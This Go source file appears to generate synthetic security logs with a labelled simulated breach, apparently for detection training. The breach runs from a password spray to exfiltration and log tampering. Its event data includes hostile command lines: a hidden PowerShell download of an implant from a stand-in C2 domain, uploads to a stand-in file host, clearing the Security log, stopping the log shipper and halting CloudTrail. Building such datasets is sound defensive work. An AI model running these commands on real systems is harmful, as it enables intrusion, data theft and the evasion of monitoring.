package simulate

import (
	"fmt"
	"net/netip"
	"strings"
	"time"
)

// gap is a silence: records of file from source (any source when empty)
// strictly after from and before until are not written, because logging
// was off.
type gap struct {
	file   fileID
	source string
	from   time.Time
	until  time.Time
}

// plan is the breach as generated, for the truth file and the silences.
type plan struct {
	truth Breach
	gaps  []gap
}

// Indicators the attacker uses, one of each chosen per seed. The names
// use the reserved .example top-level domain.
var (
	c2Domains    = []string{"cdn.msedge-telemetry.example", "api.cloudsync-status.example", "update.winsvc-health.example"}
	exfilDomains = []string{"sync.filevault-share.example", "upload.docudrop.example", "eu.securebox-transfer.example"}
)

// Attack parameters.
const (
	beaconInterval = 60 * time.Second
	beaconJitter   = 0.2
	sprayRounds    = 3
	implantPath    = `C:\Users\Public\Libraries\msedgeupd.exe`
	archivePath    = `C:\ProgramData\Microsoft\Crypto\cache\cs25.7z`
	volumeSize     = 500 << 20
)

// breach weaves the attack into the ordinary activity. It starts on day
// Days-3 and ends, with logging restored, on the last day.
func (b *builder) breach() *plan {
	r := newRNG(b.cfg.Seed, "breach")
	o := b.org
	v := o.victim
	ws := v.ws
	day := b.cfg.Start.AddDate(0, 0, b.cfg.Days-3)
	pl := &plan{}
	bt := &pl.truth

	attacker := nth(o.attackerNet, 10+r.IntN(40))
	c2IP := nth(o.vpsNet, 5+r.IntN(50))
	exfilIP := nth(o.fileHostNet, 5+r.IntN(50))
	c2Domain, exfilDomain := pick(r, c2Domains), pick(r, exfilDomains)
	vpnIP := nth(o.vpnPool, 30+r.IntN(200))
	sc := countryByCode("SC")

	bt.AttackerIP, bt.AttackerCountry = attacker.String(), sc.code
	bt.Account.UserName, bt.Account.UPN, bt.Account.Role, bt.Account.HomeCountry = v.sam, v.upn, v.role.String(), v.home.code
	bt.Workstation, bt.WorkstationIP, bt.VPNAddress = ws.name, ws.ip.String(), vpnIP.String()
	bt.LateralHosts = []string{o.app.name, o.sql.name}
	bt.Hosts = []string{ws.name, o.app.name, o.sql.name, o.fs.name, o.gw.name}

	user := Entities{UserName: v.sam, HostName: ws.fqdn}
	cloudUser := Entities{UserName: v.upn, SourceIP: attacker.String()}
	at := func(stage, technique string, e Entities) mal {
		return mal{stage: stage, technique: technique, entities: e}
	}
	toolDev := device{os: "Linux", browser: "Python Requests 2.31"}
	attackerSignIn := func(app string, dev device, code int, upn, display, id string) signIn {
		return signIn{upn: upn, display: display, userID: id, app: app, ip: attacker, country: sc,
			clientApp: "Browser", dev: dev, errorCode: code, agent: "python-requests/2.31.0"}
	}

	// Spray: three rounds of one password for every account in Entra and
	// a few on the SSH bastion. The victim's password works in the last.
	sprayStart := day.Add(time.Hour + 40*time.Minute + r.between(0, 30*time.Minute))
	guessed := []string{"admin", "info", "reception", "scanner", "test", "press", "registry", "it.support", "hr", "finance"}
	sshNames := []string{"root", "admin", "vpn", "backup", "tribunal", "test"}
	for _, p := range o.people {
		if p.linuxUID > 0 {
			sshNames = append(sshNames, p.sam)
		}
	}
	t := sprayStart
	var credT time.Time
	for round := range sprayRounds {
		type target struct {
			p    *person
			name string
		}
		var targets []target
		for _, p := range o.people {
			targets = append(targets, target{p: p})
		}
		for _, g := range guessed {
			targets = append(targets, target{name: g})
		}
		r.Shuffle(len(targets), func(i, j int) { targets[i], targets[j] = targets[j], targets[i] })
		ssh := append([]string(nil), sshNames...)
		r.Shuffle(len(ssh), func(i, j int) { ssh[i], ssh[j] = ssh[j], ssh[i] })
		for i, tg := range targets {
			t = t.Add(r.between(6*time.Second, 20*time.Second))
			if tg.p == nil {
				upn := tg.name + "@" + o.domain
				b.entraSignIn(r, t, attackerSignIn("OfficeHome", toolDev, entraNoSuchUser, upn, "", "00000000-0000-0000-0000-000000000000"),
					at(StageSpray, "T1110.003", Entities{UserName: upn, SourceIP: attacker.String()}))
			} else if tg.p == v && round == sprayRounds-1 {
				credT = t
				b.entraSignIn(r, t, attackerSignIn("OfficeHome", toolDev, entraOK, v.upn, v.display, v.objectID),
					at(StageInitialAccess, "T1078.004", cloudUser))
			} else {
				b.entraSignIn(r, t, attackerSignIn("OfficeHome", toolDev, entraBadPassword, tg.p.upn, tg.p.display, tg.p.objectID),
					at(StageSpray, "T1110.003", Entities{UserName: tg.p.upn, SourceIP: attacker.String()}))
			}
			if i < len(ssh) {
				name := ssh[i]
				exists := name == "root"
				for _, p := range o.people {
					exists = exists || (p.linuxUID > 0 && p.sam == name)
				}
				b.sshFailure(r, t.Add(r.between(time.Second, 5*time.Second)), o.gw, name, exists, attacker.String(),
					at(StageSpray, "T1110.003", Entities{UserName: name, SourceIP: attacker.String(), HostName: o.gw.name}))
			}
		}
		t = t.Add(r.between(35*time.Minute, 55*time.Minute))
	}

	// Initial access: the VPN with the stolen password, then remote
	// desktop to the victim's own workstation.
	vpnT := credT.Add(r.between(12*time.Minute, 25*time.Minute))
	attackerPC := "DESKTOP-" + strings.ToUpper(r.word("abcdefghijklmnopqrstuvwxyz0123456789", 7))
	vpn := attackerSignIn("Azure VPN", device{os: "Windows10"}, entraOK, v.upn, v.display, v.objectID)
	vpn.clientApp, vpn.agent = "Mobile Apps and Desktop clients", "AzureVPN/3.0"
	b.entraSignIn(r, vpnT, vpn, at(StageInitialAccess, "T1133", cloudUser))
	rdpT := vpnT.Add(r.between(3*time.Minute, 6*time.Minute))
	rdpEnd := rdpT.Add(r.between(70*time.Minute, 100*time.Minute))
	rdp := b.remoteDesktop(r, rdpT, rdpEnd, ws, v, vpnIP, attackerPC, false, true, at(StageInitialAccess, "T1021.001", Entities{UserName: v.sam, SourceIP: vpnIP.String(), HostName: ws.fqdn}))

	// The same account from the Seychelles while its owner works at
	// headquarters: impossible travel.
	ownerStart := day.Add(-v.home.offset + v.startWork)
	travelT := ownerStart.Add(r.between(40*time.Minute, 70*time.Minute))
	if !workday(day) {
		travelT = day.Add(10 * time.Hour)
	}
	b.entraSignIn(r, travelT, attackerSignIn("OfficeHome", device{os: "Windows10", browser: "Chrome 122.0.0"}, entraOK, v.upn, v.display, v.objectID),
		at(StageInitialAccess, "T1078.004", cloudUser))

	// Command and control: the implant is fetched and beacons every
	// minute until the end.
	implT := rdpT.Add(r.between(4*time.Minute, 8*time.Minute))
	wsNet := Entities{SourceIP: ws.ip.String(), HostName: ws.fqdn}
	b.process4688(r, implT, process{host: ws, user: v.sam, sid: v.sid(o), logonID: rdp, image: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		cmdline: `powershell.exe -nop -w hidden -c "iwr https://` + c2Domain + `/dl/update.bin -OutFile ` + implantPath + `"`, parent: `C:\Windows\explorer.exe`},
		at(StageC2, "T1059.001", user))
	b.visitMal(r, implT.Add(2*time.Second), ws.ip, c2IP, c2Domain, 443, "powershell", 900, 1_380_000, at(StageC2, "T1105", wsNet))
	b.process4688(r, implT.Add(20*time.Second), process{host: ws, user: v.sam, sid: v.sid(o), logonID: rdp, image: implantPath,
		cmdline: implantPath + " --silent", parent: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`},
		at(StageC2, "T1036.005", user))
	beacons := 0
	first := implT.Add(50 * time.Second)
	var last time.Time
	for beat := first; beat.Before(b.cfg.end()); beat = beat.Add(r.jitter(beaconInterval, beaconJitter)) {
		resp := 180 + r.Int64N(700)
		if r.chance(0.02) {
			resp = 5000 + r.Int64N(40000) // tasking
		}
		b.visitMal(r, beat, ws.ip, c2IP, c2Domain, 443, "implant", 350+r.Int64N(900), resp, at(StageC2, "T1071.001", wsNet))
		beacons++
		last = beat
	}
	bt.C2 = C2{Domain: c2Domain, IP: c2IP.String(), Interval: beaconInterval.Seconds(), Jitter: beaconJitter, Beacons: beacons, First: first, Last: last, Process: implantPath}

	// Discovery, through the implant.
	t = implT.Add(r.between(8*time.Minute, 15*time.Minute))
	for _, c := range []struct{ image, cmd, technique string }{
		{`C:\Windows\System32\whoami.exe`, "whoami /all", "T1033"},
		{`C:\Windows\System32\net.exe`, "net user /domain", "T1087.002"},
		{`C:\Windows\System32\net.exe`, `net group "Domain Admins" /domain`, "T1069.002"},
		{`C:\Windows\System32\net.exe`, `net group "IT-Server-Support" /domain`, "T1069.002"},
		{`C:\Windows\System32\nltest.exe`, "nltest /dclist:" + o.netbios, "T1018"},
		{`C:\Windows\System32\nltest.exe`, "nltest /domain_trusts /all_trusts", "T1482"},
		{`C:\Windows\System32\net.exe`, `net view \\` + o.fs.name + ` /all`, "T1135"},
		{`C:\Windows\System32\ipconfig.exe`, "ipconfig /all", "T1016"},
		{`C:\Windows\System32\systeminfo.exe`, "systeminfo", "T1082"},
	} {
		b.shell(r, t, ws, v, rdp, c.image, c.cmd, at(StageDiscovery, c.technique, user))
		t = t.Add(r.between(20*time.Second, 2*time.Minute))
	}

	// Lateral movement at night: remote desktop to the application
	// server, the admin share of the database server.
	night := day.Add(21*time.Hour + 50*time.Minute + r.between(0, 30*time.Minute))
	vpn2 := vpn
	b.entraSignIn(r, night, vpn2, at(StageInitialAccess, "T1133", cloudUser))
	rdp2T := night.Add(r.between(2*time.Minute, 5*time.Minute))
	rdp2End := rdp2T.Add(8 * time.Hour)
	rdp2 := b.remoteDesktop(r, rdp2T, rdp2End, ws, v, vpnIP, attackerPC, false, true, at(StageInitialAccess, "T1021.001", Entities{UserName: v.sam, SourceIP: vpnIP.String(), HostName: ws.fqdn}))
	latT := rdp2T.Add(r.between(10*time.Minute, 20*time.Minute))
	lat := func(h *host) Entities {
		return Entities{UserName: v.sam, SourceIP: ws.ip.String(), HostName: h.fqdn}
	}
	b.explicit4648(r, latT, ws, v, rdp2, o.app, at(StageLateral, "T1021.001", user))
	appLogon := b.remoteDesktop(r, latT.Add(2*time.Second), latT.Add(r.between(20*time.Minute, 35*time.Minute)), o.app, v, ws.ip, ws.name, true, false, at(StageLateral, "T1021.001", lat(o.app)))
	b.conn(latT.Add(time.Second), flow{src: ws.ip, dst: o.app.ip, srcPort: r.ephemeralPort(), dstPort: 3389, proto: "tcp", service: "ssl",
		duration: 25 * time.Minute, origBytes: 900_000 + r.Int64N(2_000_000), respBytes: 8_000_000 + r.Int64N(20_000_000), uid: r.zeekUID()},
		at(StageLateral, "T1021.001", Entities{HostName: ws.fqdn}))
	b.process4688(r, latT.Add(3*time.Minute), process{host: o.app, user: v.sam, sid: v.sid(o), logonID: appLogon, image: `C:\Windows\System32\cmd.exe`,
		cmdline: `"C:\Windows\system32\cmd.exe"`, parent: `C:\Windows\explorer.exe`, admin: true}, at(StageLateral, "T1021.001", Entities{UserName: v.sam, HostName: o.app.fqdn}))
	sqlT := latT.Add(r.between(40*time.Minute, 60*time.Minute))
	sqlLogon := logon{host: o.sql, user: v.sam, sid: v.sid(o), typ: 3, srcIP: ws.ip.String(), srcName: ws.name, ntlm: true}
	sqlLogon.id = b.logon4624(r, sqlT, sqlLogon, true, at(StageLateral, "T1021.002", lat(o.sql)))
	b.share5145(r, sqlT.Add(time.Second), shareAccess{host: o.sql, user: v.sam, sid: v.sid(o), logonID: sqlLogon.id, srcIP: ws.ip.String(),
		share: "C$", path: `Windows\Temp`}, at(StageLateral, "T1021.002", lat(o.sql)))
	b.conn(sqlT, flow{src: ws.ip, dst: o.sql.ip, srcPort: r.ephemeralPort(), dstPort: 445, proto: "tcp", service: "smb,ntlm,gssapi",
		duration: 2 * time.Minute, origBytes: 40_000, respBytes: 120_000, uid: r.zeekUID()}, at(StageLateral, "T1021.002", Entities{HostName: ws.fqdn}))
	b.logoff4634(sqlT.Add(2*time.Minute), sqlLogon, at(StageLateral, "T1021.002", lat(o.sql)))

	// Staging: mass reads of a share the victim never used, then an
	// encrypted, split 7-Zip archive.
	stT := day.Add(24*time.Hour + 40*time.Minute + r.between(0, 20*time.Minute))
	fsLogon := logon{host: o.fs, user: v.sam, sid: v.sid(o), typ: 3, srcIP: ws.ip.String(), srcName: ws.name}
	stage := func(technique string) mal {
		return at(StageStaging, technique, Entities{UserName: v.sam, SourceIP: ws.ip.String(), HostName: o.fs.fqdn})
	}
	fsLogon.id = b.logon4624(r, stT, fsLogon, false, stage("T1039"))
	nFiles := min(250+3*b.cfg.Users, 1200)
	cases := []int{3 + r.IntN(10), 14 + r.IntN(10), 26 + r.IntN(10)}
	span := r.between(50*time.Minute, 70*time.Minute)
	var staged int64
	for i := range nFiles {
		ft := stT.Add(5*time.Second + span*time.Duration(i)/time.Duration(nFiles) + r.between(0, span/time.Duration(2*nFiles)))
		path := caseName(cases[i%len(cases)]) + `\` + caseFolders[(i/3)%len(caseFolders)] + `\` + fmt.Sprintf("%s-%03d.pdf", docStems[i%len(docStems)], i/3)
		b.share5145(r, ft, shareAccess{host: o.fs, user: v.sam, sid: v.sid(o), logonID: fsLogon.id, srcIP: ws.ip.String(),
			share: "Cases", path: path, audit: r.chance(0.6)}, stage("T1039"))
		staged += 400_000 + r.Int64N(6_000_000)
	}
	const smbSessions = 6
	for i := range smbSessions {
		ct := stT.Add(span * time.Duration(i) / smbSessions)
		b.conn(ct.Add(time.Second), flow{src: ws.ip, dst: o.fs.ip, srcPort: r.ephemeralPort(), dstPort: 445, proto: "tcp", service: "smb,gssapi",
			duration: span / smbSessions, origBytes: 200_000 + r.Int64N(400_000), respBytes: staged / smbSessions, uid: r.zeekUID()},
			at(StageStaging, "T1039", Entities{HostName: ws.fqdn}))
	}
	b.logoff4634(stT.Add(span+time.Minute), fsLogon, stage("T1039"))
	archT := stT.Add(span + r.between(3*time.Minute, 8*time.Minute))
	var caseDirs []string
	for _, c := range cases {
		caseDirs = append(caseDirs, `\\`+o.fs.name+`\Cases\`+caseName(c))
	}
	b.shell(r, archT, ws, v, rdp2, `C:\Program Files\7-Zip\7z.exe`,
		`"C:\Program Files\7-Zip\7z.exe" a -t7z -mx1 -v500m -mhe=on -pTr1bun4l! `+archivePath+` `+strings.Join(caseDirs, " "),
		at(StageStaging, "T1560.001", user))
	archive := staged * 85 / 100

	// Exfiltration: the volumes to a file host never seen before, the
	// first over plain HTTP, the others over TLS; and SharePoint and
	// mail from the Seychelles.
	exT := archT.Add(r.between(12*time.Minute, 20*time.Minute))
	exNet := Entities{SourceIP: ws.ip.String(), HostName: ws.fqdn, DestinationIP: exfilIP.String(), DestinationDomain: exfilDomain}
	b.dnsLookup(r, exT, ws.ip, o.dc.ip, exfilDomain, []netip.Addr{exfilIP}, 300, at(StageExfiltration, "T1567.002", Entities{SourceIP: ws.ip.String(), HostName: ws.fqdn}))
	var sent int64
	vt := exT.Add(time.Second)
	conns := 0
	for vol := 1; sent < archive; vol++ {
		size := min(int64(volumeSize), archive-sent)
		d := time.Duration(float64(size)/float64(9_000_000+r.Int64N(5_000_000))*float64(time.Second)) + time.Second
		f := flow{src: ws.ip, dst: exfilIP, srcPort: r.ephemeralPort(), proto: "tcp", duration: d,
			origBytes: size + 2000 + r.Int64N(20000), respBytes: 3000 + r.Int64N(5000), uid: r.zeekUID()}
		if vol == 1 {
			f.dstPort = 80
			b.httpSession(r, vt, f, httpRequest{method: "PUT", host: exfilDomain, uri: fmt.Sprintf("/dav/backup/cs25.7z.%03d", vol),
				ua: "rclone/v1.66.0", reqLen: size, status: 201, mime: "text/plain"}, at(StageExfiltration, "T1048.003", exNet))
		} else {
			f.dstPort = 443
			b.tlsSession(vt, f, tlsInfo{sni: exfilDomain, ja3: ja3("rclone"), ja3s: ja3("server:" + exfilDomain), version: "TLSv13"},
				at(StageExfiltration, "T1567.002", exNet))
		}
		sent += f.origBytes
		conns++
		vt = vt.Add(d + r.between(2*time.Second, 30*time.Second))
	}
	exEnd := vt
	spT := exT.Add(r.between(5*time.Minute, 10*time.Minute))
	sp := attackerSignIn("Office 365 SharePoint Online", device{os: "Windows10", browser: "Chrome 122.0.0"}, entraOK, v.upn, v.display, v.objectID)
	b.entraSignIn(r, spT, sp, at(StageInitialAccess, "T1078.004", cloudUser))
	nDownloads := min(400+2*b.cfg.Users, 1500)
	dt := spT.Add(time.Minute)
	for i := range nDownloads {
		f := spFile{site: "Prosecution", folder: "Shared Documents/" + caseName(cases[i%len(cases)]) + "/" + caseFolders[i%len(caseFolders)],
			name: fmt.Sprintf("%s-%03d.pdf", docStems[(i+3)%len(docStems)], i)}
		b.fileOperation(r, dt, v, attacker.String(), "rclone/v1.66.0", "FileDownloaded", f, at(StageExfiltration, "T1530", cloudUser))
		dt = dt.Add(r.between(time.Second, 10*time.Second))
	}
	for range 5 {
		b.mailAccess(r, dt, v, attacker.String(), "Client=REST;Client=RESTSystem;;", "Bind", r.intIn(20, 60), at(StageExfiltration, "T1114.002", cloudUser))
		dt = dt.Add(r.between(20*time.Second, 2*time.Minute))
	}
	if dt.After(exEnd) {
		exEnd = dt
	}
	bt.Exfiltration = Exfiltration{DestinationIP: exfilIP.String(), DestinationDomain: exfilDomain, Bytes: sent, Connections: conns,
		Archive: archivePath, FilesStaged: nFiles, Share: `\\` + o.fs.name + `\Cases`, CloudDownloads: nDownloads,
		SharePointSite: "https://" + o.spHost + "/sites/Prosecution/", Start: exT, End: exEnd}

	// Defense evasion: CloudTrail stopped from the Seychelles, the file
	// server's Security log cleared and its shipper stopped.
	awsT := exEnd.Add(r.between(8*time.Minute, 15*time.Minute))
	awsSI := attackerSignIn("Amazon Web Services (AWS)", device{os: "Windows10", browser: "Chrome 122.0.0"}, entraOK, v.upn, v.display, v.objectID)
	b.entraSignIn(r, awsT, awsSI, at(StageInitialAccess, "T1078.004", cloudUser))
	id := b.consoleSignIn(r, awsT.Add(r.between(3*time.Second, 8*time.Second)), v, attacker.String(), agentConsole, at(StageInitialAccess, "T1078.004", cloudUser))
	ct := awsT.Add(r.between(40*time.Second, 2*time.Minute))
	trail := "tribunal-org-trail"
	trailArn := "arn:aws:cloudtrail:eu-west-1:" + o.awsAccount + ":trail/" + trail
	b.cloudTrail(r, ct, apiCall{id: id, source: "cloudtrail.amazonaws.com", name: "DescribeTrails", ip: attacker.String(), agent: agentConsole, readOnly: true, console: true,
		request: obj{{"trailNameList", []string{}}, {"includeShadowTrails", false}}}, at(StageDiscovery, "T1580", cloudUser))
	ct = ct.Add(r.between(10*time.Second, 40*time.Second))
	b.cloudTrail(r, ct, apiCall{id: id, source: "cloudtrail.amazonaws.com", name: "GetTrailStatus", ip: attacker.String(), agent: agentConsole, readOnly: true, console: true,
		request: obj{{"name", trailArn}}}, at(StageDiscovery, "T1580", cloudUser))
	stopT := ct.Add(r.between(20*time.Second, 90*time.Second))
	b.cloudTrail(r, stopT, apiCall{id: id, source: "cloudtrail.amazonaws.com", name: "StopLogging", ip: attacker.String(), agent: agentConsole, console: true,
		request: obj{{"name", trailArn}}}, at(StageDefenseEvasion, "T1562.008", cloudUser))

	clrT := stopT.Add(r.between(4*time.Minute, 10*time.Minute))
	b.shell(r, clrT.Add(-20*time.Second), ws, v, rdp2, `C:\Windows\System32\wevtutil.exe`, `wevtutil.exe /r:`+o.fs.name+` cl Security`, at(StageDefenseEvasion, "T1070.001", user))
	fs2 := logon{host: o.fs, user: v.sam, sid: v.sid(o), typ: 3, srcIP: ws.ip.String(), srcName: ws.name}
	fsDE := Entities{UserName: v.sam, SourceIP: ws.ip.String(), HostName: o.fs.fqdn}
	fs2.id = b.logon4624(r, clrT.Add(-15*time.Second), fs2, true, at(StageDefenseEvasion, "T1070.001", fsDE))
	b.logCleared(clrT, o.fs, v, fs2.id, at(StageDefenseEvasion, "T1070.001", Entities{UserName: v.sam, HostName: o.fs.fqdn}))
	b.shell(r, clrT.Add(40*time.Second), ws, v, rdp2, `C:\Windows\System32\sc.exe`, `sc.exe \\`+o.fs.name+` stop winlogbeat`, at(StageDefenseEvasion, "T1562.001", user))

	// Remediation the next morning: an administrator restarts the
	// shipper on FS01 and CloudTrail logging. Not labelled.
	admin := o.people[0]
	// Whole seconds, the coarsest precision of the formats: the record
	// logged as logging resumes keeps the time of the resumption, and
	// is not cut back into the silence.
	resume := day.Add(2*24*time.Hour + 9*time.Hour + r.between(0, 30*time.Minute)).Truncate(time.Second)
	al := logon{host: o.fs, user: admin.sam, sid: admin.sid(o), typ: 10, srcIP: admin.ws.ip.String(), srcName: admin.ws.name}
	al.id = b.logon4624(r, resume, al, true, mal{})
	b.process4688(r, resume.Add(40*time.Second), process{host: o.fs, user: admin.sam, sid: admin.sid(o), logonID: al.id, image: `C:\Windows\System32\sc.exe`,
		cmdline: "sc.exe start winlogbeat", parent: `C:\Windows\System32\cmd.exe`, admin: true}, mal{})
	b.logoff4634(resume.Add(12*time.Minute), al, mal{})
	pl.gaps = append(pl.gaps, gap{file: fileWindows, source: "windows/" + o.fs.name, from: clrT, until: resume})
	bt.Silenced = Silence{Host: o.fs.name, Event: "1102 audit log cleared, then the Winlogbeat service stopped", At: clrT, From: clrT.Add(time.Nanosecond), Until: resume}

	ctResume := resume.Add(r.between(15*time.Minute, 30*time.Minute)).Truncate(time.Second)
	as := &session{p: admin, pub: o.office[0]}
	adminID := b.consoleSignIn(r, ctResume.Add(-2*time.Minute), admin, as.pub.String(), agentConsole, mal{})
	b.cloudTrail(r, ctResume, apiCall{id: adminID, source: "cloudtrail.amazonaws.com", name: "StartLogging", ip: as.pub.String(), agent: agentConsole, console: true,
		request: obj{{"name", trailArn}}}, mal{})
	pl.gaps = append(pl.gaps, gap{file: fileCloudTrail, from: stopT, until: ctResume})
	bt.CloudTrail = Silence{Name: trail, Event: "StopLogging", At: stopT, From: stopT.Add(time.Nanosecond), Until: ctResume}

	return pl
}

// remoteDesktop adds a remote desktop logon of p to h from src,
// and its logoff at end, and returns the session id. With withConn, the
// conn.log record of the session is added too.
func (b *builder) remoteDesktop(r rng, t, end time.Time, h *host, p *person, src netip.Addr, srcName string, admin, withConn bool, m mal) string {
	l := logon{host: h, user: p.sam, sid: p.sid(b.org), typ: 10, srcIP: src.String(), srcName: srcName}
	l.id = b.logon4624(r, t, l, admin, m)
	b.logoff4634(end, l, m)
	if withConn {
		b.conn(t.Add(-time.Second), flow{src: src, dst: h.ip, srcPort: r.ephemeralPort(), dstPort: 3389, proto: "tcp", service: "ssl",
			duration: end.Sub(t), origBytes: 2_000_000 + r.Int64N(6_000_000), respBytes: 30_000_000 + r.Int64N(90_000_000), uid: r.zeekUID()}, m)
	}
	return l.id
}

// shell adds cmd.exe started by the implant, and the command it runs.
func (b *builder) shell(r rng, t time.Time, h *host, p *person, logonID, image, cmdline string, m mal) {
	c := m
	c.technique = "T1059.003"
	b.process4688(r, t, process{host: h, user: p.sam, sid: p.sid(b.org), logonID: logonID, image: `C:\Windows\System32\cmd.exe`,
		cmdline: `C:\Windows\system32\cmd.exe /c ` + cmdline, parent: implantPath}, c)
	b.process4688(r, t.Add(r.between(100*time.Millisecond, 900*time.Millisecond)), process{host: h, user: p.sam, sid: p.sid(b.org), logonID: logonID,
		image: image, cmdline: cmdline, parent: `C:\Windows\System32\cmd.exe`}, m)
}

// visitMal adds a DNS lookup and a TLS connection of the attacker.
func (b *builder) visitMal(r rng, t time.Time, src, dst netip.Addr, domain string, port int, client string, orig, resp int64, m mal) {
	b.dnsLookup(r, t, src, b.org.dc.ip, domain, []netip.Addr{dst}, 60, m)
	m.entities.DestinationIP = ""
	b.tlsSession(t.Add(r.between(2*time.Millisecond, 40*time.Millisecond)), flow{src: src, dst: dst, srcPort: r.ephemeralPort(), dstPort: port, proto: "tcp",
		duration: r.between(150*time.Millisecond, 2*time.Second), origBytes: orig, respBytes: resp, uid: r.zeekUID()},
		tlsInfo{sni: domain, ja3: ja3(client), ja3s: ja3("server:" + domain), version: "TLSv12"}, m)
}
